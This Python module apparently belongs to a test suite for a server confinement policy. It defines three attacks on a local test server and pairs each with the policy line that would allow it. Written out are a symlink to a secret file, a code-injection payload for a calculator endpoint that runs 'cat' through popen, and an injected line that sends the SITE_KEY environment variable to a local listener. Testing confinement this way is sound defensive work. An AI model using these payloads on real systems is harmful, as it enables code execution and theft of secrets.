"""What is tried on the server, and the one who waits for the loot."""

from __future__ import annotations

import os
import socket
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

from stage import Server

SHELL = f"{os.path.realpath('/bin')}/sh"
"""The shell that popen(3) and its like start, under the name by which policy knows it."""


@dataclass(frozen=True, slots=True)
class Attack:
    """``strike(server)`` returns the loot, empty for none. ``missing`` is the line of policy that would allow it."""

    title: str
    how: str
    strike: Callable[[Server], str]
    missing: str


class Thief:
    """Listens, and keeps what it is sent."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port: int = self.socket.getsockname()[1]

    def __enter__(self) -> Thief:
        return self

    def __exit__(self, *_: object) -> None:
        self.socket.close()

    def loot(self) -> str:
        """What has been sent by now, and not been looked at."""
        self.socket.settimeout(0.5)
        try:
            connection, _ = self.socket.accept()
            with connection:
                connection.settimeout(5)
                return connection.recv(4096).decode()
        except TimeoutError:
            return ""


def attacks(site: Path, secret: Path, thief: Thief) -> list[Attack]:
    """Every attack, in order."""
    return [_symlink(site, secret), _shell(secret), _connection(thief)]


def _symlink(site: Path, secret: Path) -> Attack:
    def strike(server: Server) -> str:
        link = site / "latest.txt"
        if not link.is_symlink():
            link.symlink_to(secret)
        return loot(server, "/latest.txt")

    how = f"ln -s {secret} {site}/latest.txt; GET /latest.txt"
    return Attack("a symbolic link in the served folder, leading to a secret", how, strike, f"file read {secret}")


def _shell(secret: Path) -> Attack:
    expression = f"__import__('os').popen('cat {secret}').read()"
    return _calculation("a shell, through the calculator", expression, lambda answer: answer, f"file execute {SHELL}")


def _connection(thief: Thief) -> Attack:
    address = f"('127.0.0.1', {thief.port})"
    expression = (
        f"__import__('socket').create_connection({address}).sendall(__import__('os').environ['SITE_KEY'].encode())"
    )
    missing = f"network inet stream connect 127.0.0.1 {thief.port}"
    return _calculation("a connection out, carrying a key away", expression, lambda _: thief.loot(), missing)


def _calculation(title: str, expression: str, result: Callable[[str], str], missing: str) -> Attack:
    page = f"/sum?of={quote(expression, safe='')}"
    return Attack(title, f"GET /sum?of={expression}", lambda server: result(loot(server, page)), missing)


def loot(server: Server, page: str) -> str:
    """What the server gives away as ``page``; nothing if it has to say no."""
    answer = server.ask(page)
    return answer.first_line if answer.status == 200 else ""
